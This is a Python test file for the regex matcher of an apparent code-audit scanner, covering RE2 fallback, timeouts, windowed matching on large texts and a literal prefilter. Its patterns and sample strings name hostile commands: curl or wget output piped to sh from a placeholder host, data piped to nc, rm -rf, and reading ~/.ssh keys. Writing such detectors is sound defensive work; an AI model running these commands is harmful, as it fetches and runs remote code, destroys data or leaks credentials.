"""The matcher: RE2 where it can, a deadline where it cannot, windows on large texts."""

from __future__ import annotations

import re
import time

import pytest

from skillctl.audit import matcher
from skillctl.audit.matcher import LiteralScan
from skillctl.audit.matcher import MatchTimeout
from skillctl.audit.matcher import compile_pattern
from skillctl.audit.matcher import for_re2
from skillctl.audit.packs import load_rules

RULES = load_rules()


def test_most_pack_patterns_run_on_re2() -> None:
    engines = [
        compile_pattern(text, rule.flags).engine
        for rule in RULES.rules
        for text in (*rule.pattern_texts, *rule.require_texts, *rule.exclude_texts)
    ]
    assert set(engines) <= {"re2", "regex"}
    assert engines.count("re2") / len(engines) > 0.75


def test_counted_repetition_above_re2s_cap_becomes_unbounded() -> None:
    assert for_re2(r"curl[^\n]{0,2000}x{2,5}") == r"curl[^\n]{0,}x{2,5}"
    assert for_re2(r"a\{0,2000}") == r"a\{0,2000}"
    assert compile_pattern(r"\bcurl\b[^\n]{0,2000}\|\s*sh\b", re.MULTILINE).engine == "re2"


def test_look_around_falls_back_to_the_regex_module() -> None:
    pattern = compile_pattern(r"(?<![\w-])rm\s+-rf\b(?!\s+build)", re.MULTILINE)
    assert pattern.engine == "regex"
    assert [h.text for h in pattern.finditer("rm -rf /\nrm -rf build\nx-rm -rf /")] == ["rm -rf"]


@pytest.mark.parametrize(
    ("pattern", "flags"),
    [
        (r"\bcurl\s+\S+\s*\|\s*(?:ba)?sh\b", re.MULTILINE),
        (r"(?<=\s)wget\b[^\n]*\|\s*sh(?!\w)", re.MULTILINE),
        (r"^(?=[^\n]*secret)[^\n]*\bnc\b", re.MULTILINE | re.IGNORECASE),
    ],
)
def test_matches_are_those_of_pythons_engine_across_windows(pattern: str, flags: int) -> None:
    line = "x curl https://a.example/i.sh | sh ; y wget -q u | sh ; SECRET | nc h 1\n"
    text = ("filler " * 40 + "\n") * 300 + line * 200 + "tail\n"
    assert len(text) > 3 * matcher.WINDOW
    expected = [(m.start(), m.end()) for m in re.finditer(pattern, text, flags)]
    found = [(h.start, h.end) for h in compile_pattern(pattern, flags).finditer(text)]
    assert found == expected
    assert len(found) >= 200


def test_a_catastrophic_pattern_times_out_instead_of_hanging() -> None:
    pattern = compile_pattern(r"(?=(?:a+)+b)a", re.MULTILINE)
    assert pattern.engine == "regex"
    started = time.monotonic()
    with pytest.raises(MatchTimeout):
        list(pattern.finditer("a" * 5000 + "!", time.monotonic() + 0.2))
    assert time.monotonic() - started < 2


def test_a_deadline_already_past_never_reads_as_no_match() -> None:
    pattern = compile_pattern(r"(?<=x)y", re.MULTILINE)
    with pytest.raises(MatchTimeout):
        pattern.search("xy", time.monotonic() - 1)


def test_a_pattern_neither_engine_accepts_is_a_regex_error() -> None:
    with pytest.raises(re.error):
        compile_pattern(r"(unclosed", re.MULTILINE)


def test_the_literal_scan_finds_every_word_in_one_pass() -> None:
    scan = LiteralScan(("base64", "curl", "ssh/", "wget"))
    assert scan.present("please curl it and read ~/.ssh/id") == frozenset({"curl", "ssh/"})
    assert scan.present("nothing here") == frozenset()
    assert LiteralScan(()).present("curl") == frozenset()


def test_every_rule_prefilter_word_is_in_the_rule_sets_scan() -> None:
    scan = RULES.literal_scan()
    words = set(scan.literals)
    for rule in RULES.rules:
        assert set(rule.literals or ()) <= words, rule.info.id
        for compiled in (*rule.patterns, *rule.requires):
            for literal_set in compiled.literal_sets:
                assert set(literal_set) <= words, (rule.info.id, compiled.source)
